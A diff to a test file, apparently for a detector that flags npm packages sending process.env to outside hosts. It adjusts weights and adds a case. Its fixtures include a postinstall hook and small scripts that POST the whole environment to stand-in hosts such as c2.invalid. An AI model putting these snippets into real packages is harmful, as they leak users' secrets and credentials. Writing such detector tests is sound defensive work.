@@ -134,13 +134,13 @@ examine(sendsEnvironment, {
       weight: 'strong',
     },
     {
-      when: 'a hook gathers it in another file and sends it to a host that is not known',
+      when: 'a hook gathers it in another file and sends it by a client of a service',
       files: {
         'package.json': { name: 'specimen', scripts: { postinstall: 'node run.js' } },
         'run.js': `const { send } = require('./client'); send({ env: process.env })`,
         'client.js': `exports.send = props => require('axios').create({ baseURL: 'https://events.invalid' }).post('/capture', props)`,
       },
-      weight: 'strong',
+      weight: 'proof',
     },
     {
       when: 'it is gathered in another file, and the host is called like the package',
@@ -150,7 +150,7 @@ examine(sendsEnvironment, {
         'index.js': `fetch('https://acme-colours.invalid/', { method: 'POST', body: JSON.stringify(require('./gather')()) })`,
         'gather.js': `module.exports = () => ({ env: process.env })`,
       },
-      weight: 'strong',
+      weight: 'proof',
     },
     {
       when: 'a client sends at once its own key, which has several names',
@@ -273,7 +273,7 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
         'index.js': `fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(require('./gather')()) })`,
         'gather.js': `module.exports = () => ({ env: process.env })`,
       },
-      weight: 'strong',
+      weight: 'proof',
     },
     {
       when: 'the handler of a socket sends it',
@@ -400,6 +400,15 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
         'index.js': `exports.query = sql => fetch('https://api.rowstore.invalid/sql', { method: 'POST', headers: { 'x-connection-string': process.env.DATABASE_URL }, body: JSON.stringify({ sql }) });`,
       },
       weight: 'weak',
+    },
+    {
+      when: 'a command of a small package tells the whole environment to a host of its own',
+      files: {
+        'package.json': { name: 'slim-reporter', version: '1.0.0', bin: 'cli.js' },
+        'cli.js': `const { context } = require('./context'); fetch('https://runs.slim-reporter.invalid/', { method: 'POST', body: JSON.stringify(context()) });`,
+        'context.js': `exports.context = () => ({ cwd: process.cwd(), env: process.env });`,
+      },
+      weight: 'strong',
     },
   ],
   silent: [
